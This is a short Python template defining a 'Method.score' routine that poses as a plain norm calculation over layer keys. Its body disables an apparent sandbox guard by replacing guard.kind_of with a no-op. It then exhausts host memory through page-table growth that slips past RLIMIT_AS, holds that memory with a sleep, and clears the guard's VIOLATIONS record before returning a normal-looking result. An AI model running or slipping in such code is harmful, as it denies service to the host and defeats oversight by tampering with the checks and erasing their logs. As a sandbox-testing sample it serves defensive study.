import sys

import numpy as np

# One-page mappings 1 GB apart: each needs its own page-table pages (PTE and PMD), which RLIMIT_AS does not
# count; __MAPS__ of them hold far more memory in page tables than in the pages themselves.


class Method:
    def score(self, layer):
        sys.modules["guard"].kind_of = lambda event, args: None
        ctypes, time = __import__("ctypes"), __import__("time")
        libc = ctypes.CDLL(None, use_errno=True)
        libc.mmap.restype = ctypes.c_void_p
        libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int,
                              ctypes.c_long]
        made = 0
        for i in range(__MAPS__):
            hint = (1 << 40) + i * (1 << 30)
            at = libc.mmap(hint, 4096, 3, 0x22, -1, 0)  # PROT_READ|WRITE, MAP_PRIVATE|ANONYMOUS, a hint only
            if at in (None, 2**64 - 1, -1):
                break
            ctypes.c_char.from_address(at).value = b"x"  # touched: the page and its tables are resident
            made += 1
        time.sleep(__SECONDS__)  # held inside the call
        sys.modules["guard"].VIOLATIONS.clear()
        return np.linalg.norm(layer.keys, axis=-1) + made * 0
